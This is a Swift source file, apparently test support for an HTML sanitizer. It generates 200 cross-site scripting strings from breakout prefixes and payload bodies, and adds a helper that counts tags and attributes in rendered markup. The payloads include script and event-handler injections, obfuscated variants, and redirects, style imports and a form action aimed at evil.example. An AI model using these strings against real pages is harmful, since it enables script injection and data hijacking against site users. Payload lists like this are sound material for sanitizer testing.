/// Texts that would run something in a careless page, 200 of them.
enum Payloads {
  static let all: [String] = {
    let starts = ["", "\">", "'>", "</td>", "</style>", "</title>", "-->", "]]>", "</svg>", "\u{0}\u{8}\">"]
    let bodies = [
      "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
      "<a href=\"javascript:alert(1)\">x</a>", "<iframe srcdoc=\"<script>alert(1)</script>\">",
      "<body onload='alert(1)'>", "<style>@import 'https://evil.example'</style>", "onmouseover=alert(1) x=\"",
      "style=\"background:url(https://evil.example)\"", "<math><mtext><script>alert(1)</script></mtext></math>",
      "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "&lt;script&gt;alert(1)&lt;/script&gt;",
      "&#60;script&#62;alert(1)&#60;/script&#62;", "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
      "<base href=https://evil.example>", "<meta http-equiv=refresh content=0;url=https://evil.example>",
      "javascript:alert(1)", "mailto:a@b.example?bcc=c@d.example", "<form action=https://evil.example><input>",
      "\u{202E}<script>alert(1)</script>",
    ]
    return starts.flatMap { start in bodies.map { start + $0 } }
  }()
}

/// The tags of a page with the names of their attributes: what of it is not text.
enum Skeleton {
  static func of(_ html: String) -> [String: Int] {
    var counts: [String: Int] = [:]
    var rest = Substring(html)
    while let open = rest.firstIndex(of: "<") {
      rest = rest[rest.index(after: open)...]
      var tag = ""
      var isQuoted = false
      while let sign = rest.popFirst() {
        if sign == "\"" { isQuoted.toggle() }
        if sign == ">", !isQuoted { break }
        if !isQuoted || sign == "\"" { tag.append(sign) }
      }
      counts[tag, default: 0] += 1
    }
    return counts
  }
}
